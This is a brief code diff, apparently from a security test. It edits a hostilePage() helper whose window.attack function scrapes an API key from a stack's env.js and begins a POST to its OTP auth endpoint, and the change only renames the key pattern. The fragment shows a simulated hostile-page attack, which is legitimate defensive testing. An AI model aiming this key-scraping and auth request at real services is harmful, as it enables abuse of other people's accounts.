@@ -16,7 +16,7 @@ function hostilePage(): string {
 window.attack = async (stack) => {
   const out = {};
   const env = await fetch(stack + '/env.js').then((r) => r.text());
-  const anonKey = /"anonKey":"([^"]+)"/.exec(env)[1];
+  const anonKey = /"publishableKey":"([^"]+)"/.exec(env)[1];
   const otp = await fetch(stack + '/auth/v1/otp', {
     method: 'POST',
     headers: { apikey: anonKey, 'content-type': 'application/json' },
